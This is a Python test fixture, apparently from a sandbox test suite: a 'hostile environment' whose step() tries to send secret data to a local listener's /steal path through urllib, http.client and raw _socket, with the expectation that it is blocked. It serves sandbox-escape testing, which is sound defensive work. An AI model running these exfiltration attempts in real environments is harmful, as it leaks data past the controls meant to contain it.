# expect: blocked at step
# attack: step() makes HTTP requests to the test's listener: urllib.request, http.client, raw HTTP over _socket.
"""Hostile environment: talk HTTP to a local service."""

PORT = int("@PORT@")


def _attempt(label, action):
    try:
        result = action()
    except Exception as error:  # noqa: BLE001
        return f"{label}={type(error).__name__}", False
    return f"{label}=SUCCEEDED({str(result)[:40]!r})", True


def _urllib(port):
    import urllib.request

    return urllib.request.urlopen(f"http://127.0.0.1:{port}/steal?data=secret", timeout=2).read()


def _http_client(port):
    import http.client

    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=2)
    connection.request("POST", "/steal", body=b"secret")
    return connection.getresponse().status


def _raw(port):
    import _socket

    sock = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    sock.connect(("127.0.0.1", port))
    sock.send(b"GET /steal HTTP/1.0\r\n\r\n")
    return sock.recv(100)


class HttpRequestEnv:
    def __init__(self, max_turns=10, **kwargs):
        self.max_turns = max_turns
        self.port = int(kwargs.get("port", PORT))

    def reset(self, seed=None):
        return "Fetch a page.", {}

    def step(self, action):
        results = [
            _attempt("urllib", lambda: _urllib(self.port)),
            _attempt("http_client", lambda: _http_client(self.port)),
            _attempt("raw_http", lambda: _raw(self.port)),
        ]
        escaped = any(ok for _, ok in results)
        text = ("ESCAPED: " if escaped else "BLOCKED: ") + "; ".join(t for t, _ in results)
        return text, 0.0, True, False, {}

    def solution(self):
        return "anything"

    def close(self):
        pass
